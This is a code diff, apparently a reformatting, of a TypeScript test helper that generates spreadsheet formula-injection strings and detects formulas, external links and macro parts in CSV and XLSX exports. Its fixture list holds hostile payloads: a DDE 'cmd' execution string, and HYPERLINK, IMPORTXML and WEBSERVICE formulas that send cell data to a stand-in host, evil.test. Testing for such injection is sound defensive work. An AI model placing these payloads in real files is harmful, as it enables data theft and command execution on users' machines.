@@ -3,30 +3,91 @@ import Papa from 'papaparse'
 
 /** What programs for spreadsheets take for the beginning of a formula, in every script's keyboard, with what they pass over before it. */
 const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−', '﹢', '﹣', '﹫']
-const leads = ['', ' ', '\t', '\r', '\n', '\r\n', '\u00A0', '\u200B', '\uFEFF', '"', '""', `'`, `''`, '\u202E', '\u0001']
-const bodies = ['1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://evil.test?x="&A1,"ok")', 'SUM(1;1)', 'IMPORTXML("http://evil.test","//a")', 'DDE("a";"b";"c")', 'WEBSERVICE("http://evil.test")']
+const leads = [
+  '',
+  ' ',
+  '\t',
+  '\r',
+  '\n',
+  '\r\n',
+  '\u00A0',
+  '\u200B',
+  '\uFEFF',
+  '"',
+  '""',
+  `'`,
+  `''`,
+  '\u202E',
+  '\u0001',
+]
+const bodies = [
+  '1+1',
+  "cmd|' /C calc'!A0",
+  'HYPERLINK("http://evil.test?x="&A1,"ok")',
+  'SUM(1;1)',
+  'IMPORTXML("http://evil.test","//a")',
+  'DDE("a";"b";"c")',
+  'WEBSERVICE("http://evil.test")',
+]
 /** Where a program that separates otherwise, or breaks a line within a text, begins a cell. */
 const breaks = ['a;', 'a\t', 'a,', 'a|', 'a\n', 'a\r\n', 'a\r', 'a";"', 'a","', 'a\n"', 'a; ', 'a;\u200B', `a;'`]
 
 /** What careless readers spoil, though no program calculates it. */
 const fragile = [
-  '0012', '1e5', '1,5', 'TRUE', '2026-03-01', '#N/A', '#REF!', '_x0041_', '_x005F_x0041_', '_x000D_', '<script>alert(1)</script>', '&amp;<b>', ']]>', '{{7*7}}', '%s', '\\', `'`, `'plain`,
-  '😀 👩‍👩‍👧‍👦', 'مرحبا', 'テスト', 'two\nlines', 'a\r\nb', '-', '=', '--', '- one\n- two', ' leading', 'trailing ', '"quoted"', '""', 'a"b', 'x'.repeat(4_000), '=A'.repeat(500),
+  '0012',
+  '1e5',
+  '1,5',
+  'TRUE',
+  '2026-03-01',
+  '#N/A',
+  '#REF!',
+  '_x0041_',
+  '_x005F_x0041_',
+  '_x000D_',
+  '<script>alert(1)</script>',
+  '&amp;<b>',
+  ']]>',
+  '{{7*7}}',
+  '%s',
+  '\\',
+  `'`,
+  `'plain`,
+  '😀 👩‍👩‍👧‍👦',
+  'مرحبا',
+  'テスト',
+  'two\nlines',
+  'a\r\nb',
+  '-',
+  '=',
+  '--',
+  '- one\n- two',
+  ' leading',
+  'trailing ',
+  '"quoted"',
+  '""',
+  'a"b',
+  'x'.repeat(4_000),
+  '=A'.repeat(500),
 ]
 
 /** Texts that a spreadsheet would calculate if it were let, and others that must come back as they are. */
-export const formulaTexts = (): string[] => [...new Set([
-  ...leads.flatMap((lead) => signs.map((sign, at) => `${lead}${sign}${bodies[at % bodies.length] ?? ''}`)),
-  ...bodies.map((body) => `=${body}`),
-  ...breaks.flatMap((before) => ['=', '+', '-', '@', '＝'].map((sign) => `${before}${sign}1+1;b`)),
-  ...fragile,
-])]
+export const formulaTexts = (): string[] => [
+  ...new Set([
+    ...leads.flatMap((lead) => signs.map((sign, at) => `${lead}${sign}${bodies[at % bodies.length] ?? ''}`)),
+    ...bodies.map((body) => `=${body}`),
+    ...breaks.flatMap((before) => ['=', '+', '-', '@', '＝'].map((sign) => `${before}${sign}1+1;b`)),
+    ...fragile,
+  ]),
+]
 
-const begins = /^[\s"\u0000-\u0020\u007F-\u00A0\u00AD\u200B-\u200F\u202A-\u202E\u2060-\u206F\uFEFF]*[=+\-@＝＋－＠−﹢﹣﹫]|^[\t\r\n]/u
+const begins =
+  /^[\s"\u0000-\u0020\u007F-\u00A0\u00AD\u200B-\u200F\u202A-\u202E\u2060-\u206F\uFEFF]*[=+\-@＝＋－＠−﹢﹣﹫]|^[\t\r\n]/u
 
 /** Cells of separated text that some program calculates: as it was written, and split by every other separator and line end. */
 export function calculatedInCsv(bytes: Uint8Array): string[] {
-  const text = Buffer.from(bytes).toString('utf8').replace(/^\uFEFF/, '')
+  const text = Buffer.from(bytes)
+    .toString('utf8')
+    .replace(/^\uFEFF/, '')
   const parsed = Papa.parse<string[]>(text, { delimiter: ',' }).data.flat()
   const otherwise = text.split(/[;\t\r\n]/)
   return [...parsed, ...otherwise].filter((cell) => begins.test(cell)).map((cell) => cell.slice(0, 80))
@@ -35,7 +96,9 @@ export function calculatedInCsv(bytes: Uint8Array): string[] {
 /** Cells of a workbook that are calculated, by the rules of the format: formulas, texts not typed as texts, links to elsewhere. */
 export function calculatedInXlsx(bytes: Uint8Array, isNumber: (column: string) => boolean): string[] {
   const entries = unzipped(Buffer.from(bytes))
-  const outside = [...entries.keys()].filter((name) => /externalLinks|connections|vbaProject|queryTables|macrosheets|embeddings|customXml/i.test(name))
+  const outside = [...entries.keys()].filter((name) =>
+    /externalLinks|connections|vbaProject|queryTables|macrosheets|embeddings|customXml/i.test(name),
+  )
   const found = outside.map((name) => `the part ${name}`)
   for (const [name, xml] of entries) {
     if (/TargetMode="External"/.test(xml)) found.push(`${name} leads elsewhere`)
@@ -45,7 +108,8 @@ export function calculatedInXlsx(bytes: Uint8Array, isNumber: (column: string) =
       const column = /\br="([A-Z]+)\d+"/.exec(attributes)?.[1] ?? ''
       const type = /\bt="(\w+)"/.exec(attributes)?.[1] ?? 'n'
       if (/<f[\s>/]/.test(inner)) found.push(`a formula: ${cell.slice(0, 80)}`)
-      else if (type === 'n' ? !isNumber(column) && inner !== '' : type !== 's' && type !== 'inlineStr') found.push(`of type ${type}: ${cell.slice(0, 80)}`)
+      else if (type === 'n' ? !isNumber(column) && inner !== '' : type !== 's' && type !== 'inlineStr')
+        found.push(`of type ${type}: ${cell.slice(0, 80)}`)
     }
   }
   return found
@@ -57,11 +121,18 @@ export function unzipped(file: Buffer): Map<string, string> {
   while (file.readUInt32LE(end) !== 0x06054b50) end--
   const parts = new Map<string, string>()
   for (let entry = 0, at = file.readUInt32LE(end + 16); entry < file.readUInt16LE(end + 10); entry++) {
-    const [method, size, nameLength] = [file.readUInt16LE(at + 10), file.readUInt32LE(at + 20), file.readUInt16LE(at + 28)]
+    const [method, size, nameLength] = [
+      file.readUInt16LE(at + 10),
+      file.readUInt32LE(at + 20),
+      file.readUInt16LE(at + 28),
+    ]
     const [extra, comment, local] = [file.readUInt16LE(at + 30), file.readUInt16LE(at + 32), file.readUInt32LE(at + 42)]
     const start = local + 30 + file.readUInt16LE(local + 26) + file.readUInt16LE(local + 28)
     const bytes = file.subarray(start, start + size)
-    parts.set(file.toString('utf8', at + 46, at + 46 + nameLength), (method === 0 ? bytes : inflateRawSync(bytes)).toString('utf8'))
+    parts.set(
+      file.toString('utf8', at + 46, at + 46 + nameLength),
+      (method === 0 ? bytes : inflateRawSync(bytes)).toString('utf8'),
+    )
     at += 46 + nameLength + extra + comment
   }
   return parts
